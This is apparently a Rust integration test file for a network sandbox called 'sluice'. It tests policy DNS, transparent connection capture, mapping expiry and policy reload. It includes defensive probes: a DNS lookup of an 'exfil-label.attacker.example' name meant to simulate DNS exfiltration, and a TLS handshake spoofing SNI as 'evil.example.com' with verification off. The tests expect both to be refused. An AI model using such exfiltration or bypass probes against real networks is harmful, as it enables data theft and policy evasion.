//! Proxy-unaware clients inside `sluice run` (design §6.1): policy DNS gives
//! eligible names synthetic addresses, the firewall captures connections to
//! them, and they go through the same decision as a CONNECT. Real
//! `redis-server`/`redis-cli`, `getent`, `dig` and Node's built-in `fetch`.

use std::io::{BufRead as _, BufReader};
use std::path::Path;
use std::process::Command;

use sluice_test_support::{recorded, test_pki, Netns, TempDir};

use crate::run::{assert_cleaned_up, run_to_end, sluice_run, timed};

const REDIS_POLICY: &str = r#"version: 1
network_policies:
  cache:
    endpoints:
      - { host: cache.demo.internal, port: 6379, protocol: tcp }
    binaries:
      - { path: /usr/bin/redis-cli }
"#;

/// Events whose status detail starts with `reason`.
fn refusals<'a>(events: &'a [serde_json::Value], reason: &str) -> Vec<&'a serde_json::Value> {
    events
        .iter()
        .filter(|e| {
            e["status_detail"]
                .as_str()
                .is_some_and(|d| d.starts_with(reason))
        })
        .collect()
}

/// Python in the sandbox: connect to `ip:port`, send a RESP PING, print
/// `KEY=pong`, `KEY=reset` (refused after accept) or `KEY=refused`.
fn py_ping(key: &str, ip: &str, port: &str) -> String {
    format!(
        "python3 -c \"\nimport socket\ntry:\n s=socket.create_connection(('{ip}',{port}),3); s.sendall(b'PING\\r\\n'); d=s.recv(64)\n print('{key}=' + ('pong' if d.startswith(b'+PONG') else 'reset'))\nexcept (ConnectionResetError, BrokenPipeError): print('{key}=reset')\nexcept OSError as e: print('{key}=refused')\"\n"
    )
}

/// redis-cli with no proxy settings reaches redis-server by name; `getent`
/// shows the synthetic address; a name off policy is REFUSED without a query
/// leaving sluice; the real address, a wrong port, and a binary off the
/// policy are refused.
#[test]
fn redis_cli_reaches_redis_by_name_and_everything_else_is_refused() {
    let dir = TempDir::new("transparent-redis");
    let ns = Netns::new();
    ns.start_redis(6379);
    // A recording DNS server: sluice must never forward an ineligible label to it.
    ns.start_script(
        "dns_server.py",
        5353,
        &dir.path("dns.jsonl"),
        &[Path::new(&ns.ns_ip), Path::new(&ns.ns_ip)],
    );
    let host = format!("cache.demo.internal={}", ns.ns_ip);
    let dns_server = format!("{}:5353", ns.ns_ip);
    let script = format!(
        "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy ALL_PROXY all_proxy\n\
         echo getent=$(getent hosts cache.demo.internal | cut -d' ' -f1)\n\
         ip=$(getent ahostsv4 cache.demo.internal | head -n1 | cut -d' ' -f1)\n\
         echo getent4=$ip\n\
         echo ping=$(redis-cli -h cache.demo.internal -p 6379 PING)\n\
         echo ping6=$(redis-cli -h $(getent ahostsv6 cache.demo.internal | head -n1 | cut -d' ' -f1) PING)\n\
         echo set=$(redis-cli -h cache.demo.internal SET k sluice)\n\
         echo get=$(redis-cli -h cache.demo.internal GET k)\n\
         echo refused=$(dig +short +tries=1 +time=2 exfil-label.attacker.example A >/dev/null; dig +tries=1 +time=2 exfil-label.attacker.example A | grep -o 'status: [A-Z]*')\n\
         echo tcp_dns=$(dig +tcp +short cache.demo.internal A)\n\
         echo txt=$(dig +tries=1 +time=2 cache.demo.internal TXT | grep -o 'status: [A-Z]*')\n\
         {direct}\
         {wrong_port}\
         {wrong_binary}",
        direct = timed(
            "direct",
            &format!("redis-cli -h {} -p 6379 PING", ns.ns_ip)
        ),
        wrong_port = py_ping("wrong_port", "$ip", "6380"),
        wrong_binary = py_ping("wrong_binary", "$ip", "6379"),
    );
    let r = run_to_end(
        &dir,
        REDIS_POLICY,
        &[
            "--identity",
            "required",
            "--add-host",
            &host,
            "--dns-server",
            &dns_server,
        ],
        &script,
    );
    let out = format!("{}\n{}", r.stdout, r.stderr);
    assert_eq!(r.status.code(), Some(0), "{out}");
    let pools: [ipnet::IpNet; 2] = [
        "198.18.0.0/15".parse().unwrap(),
        "fd23:6f70:656e::/48".parse().unwrap(),
    ];
    let any: std::net::IpAddr = r.value("getent").parse().expect("an address");
    assert!(
        pools.iter().any(|p| p.contains(&any)),
        "{any} in a default pool: {out}"
    );
    let synthetic: std::net::Ipv4Addr = r.value("getent4").parse().expect("an IPv4 address");
    assert!(
        pools[0].contains(&std::net::IpAddr::from(synthetic)),
        "{synthetic}"
    );
    assert_eq!(r.value("ping"), "PONG", "{out}");
    assert_eq!(r.value("ping6"), "PONG", "captured over IPv6 too: {out}");
    assert_eq!(r.value("set"), "OK", "{out}");
    assert_eq!(r.value("get"), "sluice", "{out}");
    assert_eq!(r.value("refused"), "status: REFUSED", "{out}");
    assert_eq!(r.value("tcp_dns"), synthetic.to_string(), "DNS over TCP");
    assert_eq!(r.value("txt"), "status: REFUSED", "{out}");
    assert_ne!(r.value("direct_rc"), "0", "the real address is a bypass");
    assert!(
        r.ms("direct_ms") < 1500,
        "direct connect failed fast: {out}"
    );
    assert_eq!(r.value("wrong_port"), "reset", "{out}");
    assert_eq!(r.value("wrong_binary"), "reset", "{out}");
    assert!(
        recorded(&dir.path("dns.jsonl")).is_empty(),
        "no query reached the configured DNS server"
    );

    let mismatch = refusals(&r.events, "transparent_tcp_port_mismatch");
    assert!(
        mismatch
            .iter()
            .any(|e| e["dst_endpoint"]["hostname"] == "cache.demo.internal"
                && e["dst_endpoint"]["port"] == 6380),
        "port mismatch event: {:#?}",
        r.events
    );
    let answered: Vec<_> = r.events.iter().filter(|e| e["class_uid"] == 4003).collect();
    assert!(
        answered
            .iter()
            .any(|e| e["unmapped"]["dns.query"] == "cache.demo.internal"
                && e["unmapped"]["transparent.synthetic_ip"] == synthetic.to_string()),
        "DNS answer event: {answered:#?}"
    );
    let opened: Vec<_> = r
        .events
        .iter()
        .filter(|e| {
            e["message"]
                .as_str()
                .is_some_and(|m| m.starts_with("TRANSPARENT"))
        })
        .collect();
    assert!(
        opened.iter().any(|e| e["disposition"] == "Allowed"
            && e["actor"]["process"]["file"]["path"] == "/usr/bin/redis-cli"
            && e["unmapped"]["transparent.synthetic_ip"] == synthetic.to_string()),
        "allowed transparent connection names redis-cli and the mapping: {opened:#?}"
    );
    assert!(
        opened.iter().any(|e| e["disposition"] == "Blocked"
            && e["actor"]["process"]["file"]["path"]
                .as_str()
                .is_some_and(|p| p.starts_with("/usr/bin/python3"))),
        "python3 is off `binaries` and denied: {opened:#?}"
    );
    assert_cleaned_up(&r.netns);
}

/// `--transparent off`: no name gets an address, so a proxy-unaware client
/// fails at the lookup (and nothing is captured).
#[test]
fn transparent_off_refuses_every_name() {
    // `protocol: tcp` cannot be enforced without transparent capture: the
    // run is refused before CMD starts, at the endpoint's `protocol`.
    let dir = TempDir::new("transparent-off");
    let r = sluice_run(
        &dir,
        REDIS_POLICY,
        &["--transparent", "off"],
        "echo started=yes\n",
    )
    .output()
    .expect("sluice run");
    let out = format!(
        "{}\n{}",
        String::from_utf8_lossy(&r.stdout),
        String::from_utf8_lossy(&r.stderr)
    );
    assert!(!r.status.success(), "{out}");
    assert!(!out.contains("started=yes"), "{out}");
    assert!(
        out.contains("network_policies.cache.endpoints[0].protocol: needs transparent capture, which `sluice run` cannot enforce (drop `--transparent off`)"),
        "{out}"
    );

    // Without such endpoints, every name is refused by policy DNS.
    let dir = TempDir::new("transparent-off-rest");
    let policy = REDIS_POLICY.replace("protocol: tcp", "protocol: rest, access: read-only");
    let script = "echo lookup=$(getent hosts cache.demo.internal >/dev/null && echo found || echo refused)\n\
                  echo status=$(dig +tries=1 +time=2 cache.demo.internal A | grep -o 'status: [A-Z]*')\n";
    let r = run_to_end(&dir, &policy, &["--transparent", "off"], script);
    let out = format!("{}\n{}", r.stdout, r.stderr);
    assert_eq!(r.status.code(), Some(0), "{out}");
    assert_eq!(r.value("lookup"), "refused", "{out}");
    assert_eq!(r.value("status"), "status: REFUSED", "{out}");
    assert!(
        !r.events.iter().any(|e| e["class_uid"] == 4003),
        "no synthetic answer: {:#?}",
        r.events
    );
}

/// A mapping past its TTL is refused until the name is resolved again.
#[test]
fn expired_mapping_is_refused() {
    let dir = TempDir::new("transparent-expiry");
    let ns = Netns::new();
    ns.start_redis(6379);
    let host = format!("cache.demo.internal={}", ns.ns_ip);
    let script = "ip=$(getent ahostsv4 cache.demo.internal | head -n1 | cut -d' ' -f1)\n\
                  echo first=$(redis-cli -h $ip PING)\n\
                  sleep 1.5\n\
                  echo expired=$(redis-cli -h $ip PING 2>&1 | head -c 20)\n\
                  ip=$(getent ahostsv4 cache.demo.internal | head -n1 | cut -d' ' -f1)\n\
                  echo again=$(redis-cli -h $ip PING)\n";
    let r = run_to_end(
        &dir,
        REDIS_POLICY,
        &["--add-host", &host, "--synthetic-ttl", "1"],
        script,
    );
    let out = format!("{}\n{}", r.stdout, r.stderr);
    assert_eq!(r.status.code(), Some(0), "{out}");
    assert_eq!(r.value("first"), "PONG", "{out}");
    assert_ne!(r.value("expired"), "PONG", "{out}");
    assert_eq!(r.value("again"), "PONG", "a new answer maps again: {out}");
    assert!(
        !refusals(&r.events, "transparent_mapping_expired").is_empty()
            || !refusals(&r.events, "transparent_mapping_unknown").is_empty(),
        "expiry event: {:#?}",
        r.events
    );
}

/// A reload that removes the endpoint stops new connections on a mapping
/// issued before it (the script waits 2 s after asking for the reload, which
/// takes milliseconds, so the refusal comes from the stale mapping, before
/// any decision).
#[test]
fn reload_that_removes_the_endpoint_stops_its_old_mapping() {
    let dir = TempDir::new("transparent-reload");
    let ns = Netns::new();
    ns.start_redis(6379);
    let host = format!("cache.demo.internal={}", ns.ns_ip);
    let script = "ip=$(getent ahostsv4 cache.demo.internal | head -n1 | cut -d' ' -f1)\n\
                  echo first=$(redis-cli -h $ip PING)\n\
                  echo phase=reload\n\
                  sleep 2\n\
                  redis-cli -h $ip PING >/dev/null 2>&1 && echo after=PONG || echo stopped=yes\n";
    let mut child = sluice_run(&dir, REDIS_POLICY, &["--add-host", &host], script)
        .spawn()
        .expect("sluice run");
    let mut stdout = BufReader::new(child.stdout.take().expect("stdout"));
    let mut seen = String::new();
    loop {
        let mut line = String::new();
        if stdout.read_line(&mut line).expect("read") == 0 {
            break;
        }
        seen.push_str(&line);
        if line.trim() == "phase=reload" {
            std::fs::write(
                dir.path("policy.yaml"),
                REDIS_POLICY.replace("host: cache.demo.internal", "host: other.demo.internal"),
            )
            .expect("new policy");
            let _ = Command::new("kill")
                .args(["-HUP", &child.id().to_string()])
                .status();
        }
    }
    let status = child.wait().expect("wait");
    let mut stderr = String::new();
    let _ = std::io::Read::read_to_string(&mut child.stderr.take().expect("stderr"), &mut stderr);
    let out = format!("{seen}\n{stderr}");
    assert!(status.success(), "{out}");
    assert!(seen.contains("first=PONG"), "{out}");
    assert!(
        seen.contains("stopped=yes"),
        "reload stops the old mapping: {out}"
    );
    let events = recorded(&dir.path("audit.jsonl"));
    assert!(
        !refusals(&events, "transparent_mapping_stale").is_empty(),
        "stale mapping event after reload: {events:#?}"
    );
}

/// `--transparent all`: Node's built-in `fetch`, with every proxy variable
/// unset, reaches an inspected HTTPS endpoint by name; the REST rule still
/// applies (the denied request never reaches the upstream); a ClientHello
/// naming another host than the mapped one is refused.
#[test]
fn transparent_all_lets_node_fetch_through_the_same_rules() {
    let dir = TempDir::new("transparent-all");
    let ns = Netns::new();
    let pki = test_pki(&dir, "upstream", &["secure.demo.internal"]);
    ns.start_tls_upstream(8443, &dir.path("tls.jsonl"), &pki.cert, &pki.key);
    let policy = r#"version: 1
network_policies:
  demo:
    endpoints:
      - { host: secure.demo.internal, port: 8443, protocol: rest, enforcement: enforce, access: read-only }
    binaries:
      - { path: /usr/bin/node }
      - { path: "/usr/bin/python3*" }
"#;
    let host = format!("secure.demo.internal={}", ns.ns_ip);
    let ca = pki.ca.to_string_lossy().into_owned();
    let node = "const u = 'https://secure.demo.internal:8443/repos/x';\n\
                (async () => {\n\
                  const g = await fetch(u); console.log('get=' + g.status);\n\
                  const d = await fetch(u, { method: 'DELETE' }); console.log('delete=' + d.status);\n\
                })().catch(e => { console.log('error=' + e + ' ' + (e.cause || '')); });";
    let sni = "import socket, ssl\n\
               ip = socket.gethostbyname('secure.demo.internal')\n\
               ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE\n\
               try:\n    ctx.wrap_socket(socket.create_connection((ip, 8443), 5), server_hostname='evil.example.com'); print('sni=accepted')\n\
               except (OSError, ssl.SSLError): print('sni=refused')";
    let script = format!(
        "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy ALL_PROXY all_proxy NO_PROXY no_proxy\n\
         node -e \"{node}\"\n\
         python3 -c \"{sni}\"\n"
    );
    let r = run_to_end(
        &dir,
        policy,
        &[
            "--transparent",
            "all",
            "--add-host",
            &host,
            "--upstream-ca",
            &ca,
        ],
        &script,
    );
    let out = format!("{}\n{}", r.stdout, r.stderr);
    assert_eq!(r.status.code(), Some(0), "{out}");
    assert_eq!(r.value("get"), "200", "{out}");
    assert_eq!(r.value("delete"), "403", "{out}");
    assert_eq!(r.value("sni"), "refused", "{out}");
    let methods: Vec<String> = recorded(&dir.path("tls.jsonl"))
        .iter()
        .filter_map(|e| e["method"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(
        methods,
        ["GET"],
        "the denied DELETE never reached the upstream"
    );
    assert!(
        r.events.iter().any(|e| e["status_detail"]
            .as_str()
            .is_some_and(|d| d.starts_with("sni_mismatch"))),
        "SNI mismatch event: {:#?}",
        r.events
    );
    assert_cleaned_up(&r.netns);
}
